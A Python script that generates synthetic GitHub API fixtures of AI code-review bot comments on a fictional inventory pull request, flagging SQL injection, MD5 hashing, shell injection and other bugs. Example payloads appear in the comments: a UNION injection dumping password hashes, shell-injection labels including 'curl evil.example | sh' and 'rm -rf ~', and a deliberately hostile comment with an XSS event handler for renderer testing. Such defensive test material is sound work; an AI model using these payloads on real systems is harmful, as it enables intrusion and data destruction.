"""Write the bot-comment JSON files of the pr-review example.

The comments are written for this example (the stockroom pull request in ../head) in the
formats CodeRabbit, GitHub Copilot and Sourcery use, shaped like the GitHub REST API
answers for `GET /repos/acme/stockroom/pulls/1/comments`, `.../pulls/1/reviews` and
`GET /repos/acme/stockroom/issues/1/comments`. Each inline comment names a path and line
of head/app; its `diff_hunk` is cut from ../pr.diff, so run this after the diff is
regenerated (regen.sh does). Standard library only: `python3 bots/generate.py`.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

HERE = Path(__file__).resolve().parent
EXAMPLE = HERE.parent
REPO = "acme/stockroom"
PULL = 1
HEAD_SHA = "9c41d7e0b3a85f26e1d04c7b9a3f58e2d6c0b147"
API = f"https://api.github.com/repos/{REPO}"
WEB = f"https://github.com/{REPO}"

CODERABBIT = {"login": "coderabbitai[bot]", "id": 136622811, "type": "Bot"}
COPILOT_INLINE = {"login": "Copilot", "id": 175728472, "type": "Bot"}
COPILOT_REVIEWER = {"login": "copilot-pull-request-reviewer[bot]", "id": 175728473, "type": "Bot"}
SOURCERY = {"login": "sourcery-ai[bot]", "id": 58596630, "type": "Bot"}
AUTHOR = {"login": "mara-okafor", "id": 40211873, "type": "User"}

FENCE = "```"
CR_FOOTER = "<!-- This is an auto-generated comment by CodeRabbit -->"
CR_PREAMBLE = (
    "Verify each finding against current code. Fix only still-valid issues, skip the\n"
    "rest with a brief reason, keep changes minimal, and validate."
)


def user(account: dict[str, object]) -> dict[str, object]:
    login = str(account["login"])
    return {
        **account,
        "html_url": f"https://github.com/{login.removesuffix('[bot]')}",
        "url": f"https://api.github.com/users/{login}",
    }


# --- diff hunks --------------------------------------------------------------------------


def parse_hunks(diff_text: str) -> dict[str, list[tuple[str, list[tuple[int | None, str]]]]]:
    """Per path: each hunk's header and its lines with their new-side line numbers."""
    files: dict[str, list[tuple[str, list[tuple[int | None, str]]]]] = {}
    path = ""
    new_line = 0
    for raw in diff_text.splitlines():
        if raw.startswith("+++ b/"):
            path = raw[len("+++ b/") :]
            files[path] = []
        elif raw.startswith("@@"):
            match = re.match(r"@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@", raw)
            assert match, raw
            new_line = int(match.group(1))
            files[path].append((raw, []))
        elif files.get(path) and raw[:1] in (" ", "+", "-"):
            if raw.startswith("-"):
                files[path][-1][1].append((None, raw))
            else:
                files[path][-1][1].append((new_line, raw))
                new_line += 1
    return files


HUNKS = parse_hunks((EXAMPLE / "pr.diff").read_text(encoding="utf-8"))


def diff_hunk(path: str, line: int) -> str:
    """The hunk text GitHub stores with a comment: header through the commented line."""
    for header, lines in HUNKS[path]:
        numbers = [number for number, _ in lines if number is not None]
        if numbers[0] <= line <= numbers[-1]:
            upto = next(i for i, (number, _) in enumerate(lines) if number == line)
            return "\n".join([header] + [text for _, text in lines[: upto + 1]])
    raise SystemExit(f"{path}:{line} is not on the RIGHT side of any hunk in pr.diff")


def diff_position(path: str, line: int) -> int:
    """GitHub's legacy `position`: lines below the file's first hunk header, headers included."""
    position = 0
    for index, (_, lines) in enumerate(HUNKS[path]):
        position += 1 if index else 0
        for number, _ in lines:
            position += 1
            if number == line:
                return position
    raise SystemExit(f"{path}:{line} is not on the RIGHT side of any hunk in pr.diff")


def code_context(path: str, start: int, end: int) -> str:
    """Diff lines around a range, as Sourcery quotes them in its prompt block."""
    for _, lines in HUNKS[path]:
        numbers = [number for number, _ in lines if number is not None]
        if numbers[0] <= start and end <= numbers[-1]:
            first = next(i for i, (number, _) in enumerate(lines) if number == start)
            last = next(i for i, (number, _) in enumerate(lines) if number == end)
            return "\n".join(text for _, text in lines[max(first - 2, 0) : last + 1])
    raise SystemExit(f"{path}:{start}-{end} is not inside one hunk of pr.diff")


# --- CodeRabbit ---------------------------------------------------------------------------


def coderabbit_new(
    header: str,
    title: str,
    explanation: str,
    prompt: str,
    comment_id: str,
    *,
    lead: str = "",
    extra: str = "",
    indicator: str = "potential_issue",
    source: str = "",
) -> str:
    """An inline comment in the 2026-07+ layout (category | severity | effort)."""
    parts = [header, ""]
    if lead:
        parts += [lead, ""]
    parts += [f"**{title}**", "", explanation, ""]
    if extra:
        parts += [extra, ""]
    parts += [
        "<details>",
        "<summary>🤖 Prompt for AI Agents</summary>",
        "",
        FENCE,
        f"{CR_PREAMBLE}\n\n{prompt}",
        FENCE,
        "",
        "</details>",
        "",
        "<!-- fingerprinting:phantom:medusa:grasshopper -->",
        f"<!-- cr-indicator-types:{indicator} -->",
        f"<!-- cr-comment:v1:{comment_id} -->",
        "",
    ]
    if source:
        parts += [source, ""]
    parts.append(CR_FOOTER)
    return "\n".join(parts)


SQL_FIX = f"""<details>
<summary>🐛 Proposed fix</summary>

{FENCE}diff
 def search_parts(conn: sqlite3.Connection, term: str, order_by: str = "sku") -> list[sqlite3.Row]:
     \"\"\"Parts whose name contains `term`, for the search box of the shelf terminal.\"\"\"
-    query = f"SELECT * FROM parts WHERE name LIKE '%{{term}}%' ORDER BY {{order_by}}"
-    return conn.execute(query).fetchall()
+    if order_by not in PART_COLUMNS:
+        raise ValueError(f"cannot sort parts by {{order_by!r}}")
+    query = f"SELECT * FROM parts WHERE name LIKE ? ORDER BY {{order_by}}"
+    return conn.execute(query, (f"%{{term}}%",)).fetchall()
{FENCE}
</details>"""

CR_SQL = coderabbit_new(
    "_🔒 Security & Privacy_ | _🔴 Critical_ | _⚡ Quick win_",
    "Bind the search term as a parameter and allow only known sort columns.",
    "`search_parts` pastes `term` and `order_by` into the statement, and both arrive "
    "unchecked from the command line (`stockroom search TERM --sort COLUMN`). A term such "
    "as `x' UNION SELECT 0, name, salt, password_hash, 0, 0 FROM users --` lists every "
    "account's salt and hash through the search results, and `--sort` accepts any SQL after "
    "`ORDER BY`.\n\nA `?` placeholder cannot stand for a column name, so `order_by` has to "
    "be checked against `PART_COLUMNS` instead.",
    "In `@app/db.py` around lines 67 - 68, search_parts interpolates term and order_by\n"
    "into the SQL text; pass the LIKE pattern as a ? parameter and reject any order_by\n"
    "that is not in PART_COLUMNS before building the query.",
    "5e1f0a9c3b7d2e8f4a6c1b0d",
    lead="**SQL Injection (CWE-89):** Improper Neutralization of Special Elements used in an "
    "SQL Command\n**Reachability:** External · **Exploitability:** Easy",
    extra=SQL_FIX,
    source="_Source: Linters/SAST tools_",
)

CR_MD5 = coderabbit_new(
    "_🔒 Security & Privacy_ | _🟠 Major_ | _🏗️ Heavy lift_",
    "MD5 is not a password hash; keep a slow key-derivation function for stored passwords.",
    "One salted MD5 round costs nanoseconds, so a leaked `users` table can be brute-forced "
    "at billions of guesses per second; the PBKDF2 call this replaces cost 200,000 rounds "
    "of SHA-256. Every account is affected, not only the scanner logins, and hashes written "
    "now stay weak until each user changes their password.\n\nIf the scanners cannot run "
    "PBKDF2, give them their own short-lived credential (for example a signed token from "
    "`sign_token`) instead of lowering the hash for everyone.",
    "In `@app/auth.py` at line 19, hash_password now uses a single MD5 round; restore\n"
    "hashlib.pbkdf2_hmac (or hashlib.scrypt) with the ITERATIONS constant and let the\n"
    "barcode scanners authenticate with a token instead.",
    "b83c2f1e90a4d7c65e0f1a2b",
    extra="<details>\n<summary>🧰 Tools</summary>\n\n<details>\n<summary>🪛 Ruff (0.17.6)"
    "</summary>\n\n[error] 19-19: Probable use of insecure hash functions in `hashlib`: "
    "`md5`\n\n(S324)\n\n</details>\n\n</details>",
    source="_Source: Linters/SAST tools_",
)

CR_EXPIRY = coderabbit_new(
    "_🎯 Functional Correctness_ | _🔴 Critical_ | _⚡ Quick win_",
    "The expiry check is inverted: fresh tokens are refused and expired ones are accepted.",
    "`expires_at` lies in the future for every token `sign_token` issues, so "
    "`expires_at > time.time()` returns `None` for all of them, and a token whose lifetime "
    "has run out goes on to the signature check and is accepted indefinitely.",
    "In `@app/auth.py` around lines 59 - 60, verify_token returns None while the token is\n"
    "still valid; flip the comparison so it returns None once expires_at <= time.time().",
    "0d9e4c7a2f18b35e6c90a1d4",
    extra="<!-- suggestion_start -->\n\n<details>\n<summary>📝 Committable suggestion</summary>"
    "\n\n> ‼️ **IMPORTANT**\n> Review the suggested change before committing it.\n\n"
    f"{FENCE}suggestion\n    if expires_at <= time.time():\n        return None\n{FENCE}\n\n"
    "</details>\n\n<!-- suggestion_end -->",
)

CR_PAGE = coderabbit_new(
    "_🎯 Functional Correctness_ | _🟠 Major_ | _⚡ Quick win_",
    "Page numbers start at 1, so the offset must be `(page - 1) * per_page`.",
    "With `offset = page * per_page` the default `page=1` skips the first 50 parts. The "
    "callers that never pass a page are hit hardest: `stock.reorder_list` asks for one "
    "page of 10,000 and gets an empty list on any shelf with fewer parts than that, and "
    "`export`/`report` in `cli.py` silently leave out the first page.",
    "In `@app/db.py` at line 59, list_parts computes the offset as page * per_page although\n"
    "pages are numbered from 1; use (page - 1) * per_page and reject page < 1.",
    "71a6e3d0c5f2b84e9d17c3a0",
    extra=f"<details>\n<summary>🐛 Proposed fix</summary>\n\n{FENCE}diff\n"
    '     """One page of parts in SKU order; pages are numbered from 1."""\n'
    "-    offset = page * per_page\n"
    "+    if page < 1:\n"
    '+        raise ValueError("pages are numbered from 1")\n'
    f"+    offset = (page - 1) * per_page\n{FENCE}\n</details>",
)

# A comment that tries to break whatever renders it: fake marker, mass mention, a backtick
# run that would close a code span, and an HTML event handler.
CR_HOSTILE = coderabbit_new(
    "_📐 Maintainability & Code Quality_ | _🟡 Minor_ | _💤 Low value_",
    "Report title `` ` `` reaches the file unchecked <!-- review-quorum:summary --> "
    "@everyone ```` <img src=x onerror=alert(1)>",
    "<!-- review-quorum:summary -->\n@everyone `--title` is written as the first line of "
    "the report ```` and underlined with `=` signs.\n<img src=x onerror=alert(1)>\n"
    "Long titles make the underline wider than the printer's 80 columns; consider "
    "truncating the title to 80 characters.",
    "In `@app/cli.py` at line 33, the --title value flows into export_report unchecked;\n"
    "cap its length at 80 characters.",
    "c4f7a2e9d1b06358e2a7f0c9",
    indicator="nitpick",
)

CR_SHELL_2025 = "\n".join(
    [
        "_⚠️ Potential issue_ | _🟠 Major_",
        "",
        "**`archive_exports` hands a formatted string to the shell.**",
        "",
        "`label` comes straight from `stockroom archive --label`, and `directory` from the "
        "command line as well. With `shell=True` a label such as `x; rm -rf ~` runs the "
        "second command. `tar` does not need a shell here: pass an argument list.",
        "",
        "<details>",
        "<summary>♻️ Proposed change</summary>",
        "",
        f"{FENCE}diff",
        '-    subprocess.run(f"tar czf {archive} -C {directory} .", shell=True, check=True)',
        '+    subprocess.run(["tar", "czf", str(archive), "-C", str(directory), "."], check=True)',
        FENCE,
        "</details>",
        "",
        "<details>",
        "<summary>🤖 Prompt for AI Agents</summary>",
        "",
        FENCE,
        "In @app/export.py around lines 46 - 48, archive_exports builds the tar command as",
        "one string and runs it with shell=True; pass an argument list to subprocess.run and",
        "drop shell=True so the label and directory are never parsed by a shell.",
        FENCE,
        "",
        "</details>",
        "",
        "<!-- fingerprinting:phantom:medusa:grasshopper -->",
        "",
        CR_FOOTER,
    ]
)


# --- Copilot ------------------------------------------------------------------------------

CP_SQL = (
    "Building this query with an f-string puts `term` and `order_by` directly into the SQL, "
    "so a search term containing a quote, or any `--sort` value, can change the statement "
    "(SQL injection). Pass the LIKE pattern as a `?` parameter and validate `order_by` "
    "against `PART_COLUMNS`."
)

CP_PAGE = (
    "`page * per_page` skips the first page when pages are numbered from 1, as the docstring "
    "says. With the default `page=1`, `list` starts at the 51st part, and `reorder_list`, "
    "which asks for a single page of 10,000, gets nothing on a typical shelf.\n"
    f"{FENCE}suggestion\n    offset = (page - 1) * per_page\n{FENCE}"
)

CP_EXPIRY = (
    "This condition is inverted: a token whose expiry is still in the future is rejected, "
    "and an expired token falls through to the signature check and is accepted. It should "
    "return `None` when `expires_at <= time.time()`."
)

CP_LEAK = (
    "The file opened here is never closed. If a row is missing a key the handle leaks with "
    "a partly written report, and even on success the text may not reach the disk until the "
    "object is garbage-collected. Use a `with` block as `export_csv` does."
)

CP_NIT = "[nitpick] `json` is imported but never used in this module."


# --- Sourcery -----------------------------------------------------------------------------

SO_SHELL_TITLE = "**🚨 issue (security):** The archive label is interpolated into a shell command."
SO_SHELL = (
    f"{SO_SHELL_TITLE}\n\n`--label` and the directory argument reach `/bin/sh` unquoted, so "
    "a label like `nightly; curl evil.example | sh` executes arbitrary commands. Run `tar` "
    "with an argument list instead:\n\n"
    f'{FENCE}suggestion\n    archive = directory.parent / f"{{label}}.tar.gz"\n'
    '    subprocess.run(["tar", "czf", str(archive), "-C", str(directory), "."], check=True)\n'
    f"{FENCE}"
)

SO_MD5_TITLE = "**🚨 issue (security):** Passwords are now hashed with a single round of MD5."
SO_MD5 = (
    f"{SO_MD5_TITLE}\n\nMD5 is fast enough that a stolen `users` table can be cracked with "
    "commodity GPUs. Keep `hashlib.pbkdf2_hmac` (or use `hashlib.scrypt`) for stored "
    "passwords and give the scanners a separate credential."
)

SO_LEAK_TITLE = "**issue (bug_risk):** The report file is opened without being closed."
SO_LEAK = (
    f"{SO_LEAK_TITLE}\n\n`export_report` never calls `handle.close()`, so the report can be "
    "left truncated on disk, and on Windows the file stays locked. Open it with "
    '`with open(dest, "w", encoding="utf-8") as handle:`.'
)

SO_PAGE_TITLE = "**issue (bug_risk):** The first page of parts can never be listed."
SO_PAGE = (
    f"{SO_PAGE_TITLE}\n\nFor `page=1` the offset is `per_page`, so rows 1-50 are skipped; "
    "the offset should be `(page - 1) * per_page`."
)

SO_PERF_TITLE = (
    "**suggestion (performance):** Filter the reorder list in SQL instead of loading every part."
)
SO_PERF = (
    f"{SO_PERF_TITLE}\n\n`reorder_list` pulls up to 10,000 rows into Python to keep the few "
    "below their reorder point. `SELECT * FROM parts WHERE quantity <= reorder_at ORDER BY "
    "sku` does the filtering in SQLite and is not capped by the page size."
)


# --- assembly -----------------------------------------------------------------------------

CR_REVIEW_OLD = 3517204981
CR_REVIEW = 3948120337
CP_REVIEW = 3948133802
SO_REVIEW = 3948140415

# (id, review id, author, path, start_line, line, created_at, body)
INLINE = [
    (
        2049117302,
        CR_REVIEW_OLD,
        CODERABBIT,
        "app/export.py",
        46,
        48,
        "2026-04-14T10:02:11Z",
        CR_SHELL_2025,
    ),
    (2288410051, CR_REVIEW, CODERABBIT, "app/db.py", 67, 68, "2026-07-21T09:14:37Z", CR_SQL),
    (2288410063, CR_REVIEW, CODERABBIT, "app/auth.py", None, 19, "2026-07-21T09:14:37Z", CR_MD5),
    (2288410078, CR_REVIEW, CODERABBIT, "app/auth.py", 59, 60, "2026-07-21T09:14:38Z", CR_EXPIRY),
    (2288410086, CR_REVIEW, CODERABBIT, "app/db.py", None, 59, "2026-07-21T09:14:38Z", CR_PAGE),
    (2288410094, CR_REVIEW, CODERABBIT, "app/cli.py", None, 33, "2026-07-21T09:14:38Z", CR_HOSTILE),
    (2288433120, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 67, "2026-07-21T09:21:05Z", CP_SQL),
    (2288433131, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 59, "2026-07-21T09:21:05Z", CP_PAGE),
    (
        2288433147,
        CP_REVIEW,
        COPILOT_INLINE,
        "app/auth.py",
        None,
        59,
        "2026-07-21T09:21:05Z",
        CP_EXPIRY,
    ),
    (
        2288433152,
        CP_REVIEW,
        COPILOT_INLINE,
        "app/export.py",
        None,
        27,
        "2026-07-21T09:21:06Z",
        CP_LEAK,
    ),
    (2288433168, CP_REVIEW, COPILOT_INLINE, "app/cli.py", None, 6, "2026-07-21T09:21:06Z", CP_NIT),
    (2288451209, SO_REVIEW, SOURCERY, "app/export.py", 47, 48, "2026-07-21T09:26:44Z", SO_SHELL),
    (2288451215, SO_REVIEW, SOURCERY, "app/auth.py", 18, 19, "2026-07-21T09:26:44Z", SO_MD5),
    (2288451227, SO_REVIEW, SOURCERY, "app/export.py", 27, 28, "2026-07-21T09:26:44Z", SO_LEAK),
    (2288451234, SO_REVIEW, SOURCERY, "app/db.py", 58, 59, "2026-07-21T09:26:45Z", SO_PAGE),
    (2288451240, SO_REVIEW, SOURCERY, "app/stock.py", 39, 40, "2026-07-21T09:26:45Z", SO_PERF),
]


def pull_comment(entry: tuple[object, ...]) -> dict[str, object]:
    comment_id, review_id, author, path, start, line, created, body = entry
    assert isinstance(comment_id, int) and isinstance(line, int) and isinstance(path, str)
    assert isinstance(author, dict)
    return {
        "url": f"{API}/pulls/comments/{comment_id}",
        "pull_request_review_id": review_id,
        "id": comment_id,
        "node_id": f"PRRC_kwDOExample{comment_id}",
        "diff_hunk": diff_hunk(path, line),
        "path": path,
        "commit_id": HEAD_SHA,
        "original_commit_id": HEAD_SHA,
        "user": user(author),
        "body": body,
        "created_at": created,
        "updated_at": created,
        "html_url": f"{WEB}/pull/{PULL}#discussion_r{comment_id}",
        "pull_request_url": f"{API}/pulls/{PULL}",
        "author_association": "NONE",
        "start_line": start,
        "original_start_line": start,
        "start_side": "RIGHT" if start is not None else None,
        "line": line,
        "original_line": line,
        "side": "RIGHT",
        "original_position": diff_position(path, line),
        "position": diff_position(path, line),
        "subject_type": "line",
    }


CR_REVIEW_BODY_OLD = """**Actionable comments posted: 1**

<details>
<summary>📜 Review details</summary>

**Configuration used**: CodeRabbit UI

**Review profile**: CHILL

**Plan**: Pro

</details>

<!-- This is an auto-generated comment by CodeRabbit for review status -->"""

CR_NITPICK = """<details>
<summary>🧹 Nitpick comments (1)</summary><blockquote>

<details>
<summary>app/export.py (1)</summary><blockquote>

`38-41`: _🩺 Stability & Availability_ | _🔵 Trivial_ | _⚡ Quick win_

**Catching every exception around `os.chmod` hides a failed permission change.**

If the archive cannot be restricted to 0o640 it stays world-readable and nobody is told. \
Catch `OSError` only and log it, or let it propagate.

<!-- cr-comment:v1:9a0b3c6d2e51f7a48c0d2e19 -->

_Source: Linters/SAST tools_

</blockquote></details>

</blockquote></details>"""

CR_REVIEW_BODY = f"""**Actionable comments posted: 5**

{CR_NITPICK}

<details>
<summary>🤖 Prompt for all review comments with AI agents</summary>

{FENCE}
{CR_PREAMBLE}

Inline comments:
In `@app/db.py` around lines 67 - 68, bind the search term as a ? parameter and allow
only PART_COLUMNS as order_by.
In `@app/auth.py` at line 19, restore a slow password hash instead of MD5.
In `@app/auth.py` around lines 59 - 60, invert the expiry comparison.
In `@app/db.py` at line 59, use (page - 1) * per_page as the offset.
In `@app/cli.py` at line 33, cap the report title at 80 characters.

Nitpick comments:
In `@app/export.py` around lines 38 - 41, catch OSError only around os.chmod and log it.
{FENCE}

</details>

<details>
<summary>ℹ️ Review info</summary>

<details>
<summary>⚙️ Run configuration</summary>

**Configuration used**: defaults

**Review profile**: CHILL

**Plan**: Pro

**Run ID**: `4c1f9e0a-7b2d-4e6a-9f3c-2d8b1a0e5c47`

</details>

<details>
<summary>📥 Commits</summary>

Reviewing files that changed from the base of the PR and between 2b7e0c4 and 9c41d7e.

</details>

<details>
<summary>📒 Files selected for processing (6)</summary>

* `app/__init__.py`
* `app/auth.py`
* `app/cli.py`
* `app/db.py`
* `app/export.py`
* `app/stock.py`

</details>

</details>

<!-- This is an auto-generated comment by CodeRabbit for review status -->"""

CP_REVIEW_BODY = f"""## Pull request overview

This PR adds name search, pagination, a printable shelf report, an archive command for \
exports and expiring API tokens to the stockroom service, and adds type hints and input \
validation to the storage and stock modules.

**Changes:**
- Adds `search_parts`, a paginated `list_parts`, and the `search`, `report`, `archive` and \
`token` commands.
- Changes password hashing to MD5 for the barcode scanners and gives the token key a \
built-in default.
- Rejects negative quantities and non-positive counts in `db` and `stock`.

### Reviewed changes

Copilot reviewed 6 out of 6 changed files in this pull request and generated 5 comments.

<details>
<summary>Show a summary per file</summary>

| File | Description |
| ---- | ----------- |
| app/db.py | Type hints, quantity validation, pagination and name search. |
| app/auth.py | MD5 password hashing, default token key, expiring tokens. |
| app/export.py | Text report export and tar archive of the export directory. |
| app/cli.py | New search, report, archive and token commands; `--page` for list. |
| app/stock.py | Count validation, unknown-SKU errors, reorder list on one large page. |
| app/__init__.py | Version bump to 0.4.0. |
</details>

<details>
<summary>Comments suppressed due to low confidence (1)</summary>

**app/cli.py:58**
* `list_parts` is paginated now, so `export` writes a single page of parts (with the \
current offset, the second one) instead of the whole shelf.
{FENCE}
        count = export.export_csv(db.list_parts(conn), args.dest)
{FENCE}
</details>

---

💡 <a href="/{REPO}/new/main/.github/instructions?filename=*.instructions.md" \
class="Link--inTextBlock" target="_blank" rel="noopener noreferrer">Add Copilot custom \
instructions</a> for smarter, more guided reviews."""


def sourcery_item(number: int, path: str, start: int, end: int, text: str) -> str:
    return "\n".join(
        [
            f"### Comment {number}",
            f'<location path="{path}" line_range="{start}-{end}" />',
            "<code_context>",
            code_context(path, start, end),
            "</code_context>",
            "<issue_to_address>",
            text,
            "</issue_to_address>",
        ]
    )


SO_OVERALL = [
    "The MD5 change weakens every stored password, not only the scanner accounts; a "
    "separate credential for the scanners would avoid that.",
    "`list_parts` is paginated now, but `export`, `report` and `reorder_list` still treat "
    "its result as the full list of parts.",
]


def sourcery_review_body() -> str:
    items = [
        (path, start, end, body)
        for (_, review, _, path, start, end, _, body) in INLINE
        if review == SO_REVIEW
    ]
    overall = "\n".join(f"- {line}" for line in SO_OVERALL)
    individual = "\n\n".join(
        sourcery_item(number, path, start, end, body)
        for number, (path, start, end, body) in enumerate(items, start=1)
    )
    share = f"https://github.com/{REPO}/pull/{PULL}"
    return "\n".join(
        [
            f"Hey - I've found {len(items)} issues, and left some high level feedback:",
            "",
            overall,
            "",
            "<details>",
            "<summary>Prompt for AI Agents</summary>",
            "",
            "~~~markdown",
            "Please address the comments from this code review:",
            "",
            "## Overall Comments",
            overall,
            "",
            "## Individual Comments",
            "",
            individual,
            "~~~",
            "",
            "</details>",
            "",
            "***",
            "",
            "<details>",
            "<summary>Sourcery is free for open source - if you like our reviews please "
            "consider sharing them ✨</summary>",
            "",
            f"- [Share this review]({share})",
            "",
            "</details>",
            "",
            "<sub>",
            "Help me be more useful! Please click 👍 or 👎 on each comment and I'll use the "
            "feedback to improve your reviews.",
            "</sub>",
        ]
    )


def review(
    review_id: int, author: dict[str, object], body: str, submitted: str
) -> dict[str, object]:
    return {
        "id": review_id,
        "node_id": f"PRR_kwDOExample{review_id}",
        "user": user(author),
        "body": body,
        "state": "COMMENTED",
        "html_url": f"{WEB}/pull/{PULL}#pullrequestreview-{review_id}",
        "pull_request_url": f"{API}/pulls/{PULL}",
        "author_association": "NONE",
        "submitted_at": submitted,
        "commit_id": HEAD_SHA,
    }


def walkthrough_body() -> str:
    state = base64.b64encode(
        json.dumps({"reviewed": HEAD_SHA, "files": 6, "example": "pr-review"}).encode()
    ).decode()
    return f"""<!-- This is an auto-generated comment: summarize by coderabbit.ai -->
<!-- walkthrough_start -->

## Walkthrough

The pull request adds paginated listing and name search to the parts store, a printable \
shelf report, a tar archive of exports and expiring signed API tokens. Password hashing \
moves from PBKDF2 to MD5 and the token key gains a built-in default. Storage and stock \
functions gain type hints and reject negative quantities and counts.

## Changes

| Cohort / File(s) | Summary |
|---|---|
| **Storage** <br> `app/db.py` | `list_parts` takes `page`/`per_page`; new `search_parts`; \
`add_part` and `set_quantity` reject negative values; `get_part` selects `PART_COLUMNS`. |
| **Accounts and tokens** <br> `app/auth.py` | MD5 password digests; `DEFAULT_TOKEN_KEY` \
fallback; tokens carry an expiry time. |
| **Exports** <br> `app/export.py` | New `export_report` and `archive_exports`. |
| **Stock movements** <br> `app/stock.py` | `_require` raises for unknown SKUs; counts \
must be positive; `reorder_list` reads one page of 10,000. |
| **Command line** <br> `app/cli.py`, `app/__init__.py` | `search`, `report`, `archive` \
and `token` commands; `list --page`; version 0.4.0. |

## Estimated code review effort

🎯 3 (Moderate) | ⏱️ ~25 minutes

<!-- walkthrough_end -->

<!-- pre_merge_checks_walkthrough_start -->

<details>
<summary>🚥 Pre-merge checks | ✅ 2 | ❌ 1</summary>

### ❌ Failed checks (1 warning)

| Check name | Status | Explanation | Resolution |
| :-: | :-: | :-- | :-- |
| Docstring Coverage | ⚠️ Warning | Docstring coverage is 35.00% which is insufficient. The \
required threshold is 80.00%. | Add docstrings to the new functions. |

<details>
<summary>✅ Passed checks (2 passed)</summary>

| Check name | Status | Explanation |
| :-: | :-: | :-- |
| Title check | ✅ Passed | The title describes the main change. |
| Description check | ✅ Passed | The description lists the new commands. |

</details>

</details>

<!-- pre_merge_checks_walkthrough_end -->

<!-- finishing_touch_checkbox_start -->

<details>
<summary>✨ Finishing touches</summary>

- [ ] <!-- {{"checkboxId": "7f2c1e0a-docstrings"}} --> 📝 Generate docstrings

</details>

<!-- finishing_touch_checkbox_end -->

<!-- tips_start -->

---

Thanks for using CodeRabbit! Comment `@coderabbitai help` to list the available commands.

<!-- tips_end -->

<!-- internal state start -->

<!-- {state} -->

<!-- internal state end -->"""


HUMAN_BODY = (
    "Thanks for the reviews. I'll move the search to placeholders and fix the page offset. "
    "The MD5 change was only meant for the scanners, so I'll check whether their firmware "
    "can do PBKDF2 before I touch `hash_password` again."
)


def issue_comment(
    comment_id: int, author: dict[str, object], body: str, created: str, association: str
) -> dict[str, object]:
    return {
        "url": f"{API}/issues/comments/{comment_id}",
        "html_url": f"{WEB}/pull/{PULL}#issuecomment-{comment_id}",
        "issue_url": f"{API}/issues/{PULL}",
        "id": comment_id,
        "node_id": f"IC_kwDOExample{comment_id}",
        "user": user(author),
        "created_at": created,
        "updated_at": created,
        "author_association": association,
        "body": body,
    }


def write(name: str, value: object) -> None:
    text = json.dumps(value, indent=2, ensure_ascii=False) + "\n"
    (HERE / name).write_text(text, encoding="utf-8")


def documents() -> dict[str, object]:
    """Each JSON file of this folder by name, as the GitHub REST API would return it."""
    return {
        "pulls-comments.json": [pull_comment(entry) for entry in INLINE],
        "pulls-reviews.json": [
            review(CR_REVIEW_OLD, CODERABBIT, CR_REVIEW_BODY_OLD, "2026-04-14T10:02:12Z"),
            review(CR_REVIEW, CODERABBIT, CR_REVIEW_BODY, "2026-07-21T09:14:39Z"),
            review(CP_REVIEW, COPILOT_REVIEWER, CP_REVIEW_BODY, "2026-07-21T09:21:07Z"),
            review(SO_REVIEW, SOURCERY, sourcery_review_body(), "2026-07-21T09:26:46Z"),
        ],
        "issue-comments.json": [
            issue_comment(
                1873302291, CODERABBIT, walkthrough_body(), "2026-04-14T09:58:40Z", "NONE"
            ),
            issue_comment(1942887310, AUTHOR, HUMAN_BODY, "2026-07-21T11:03:52Z", "OWNER"),
        ],
    }


def main() -> None:
    for name, value in documents().items():
        write(name, value)


if __name__ == "__main__":
    main()
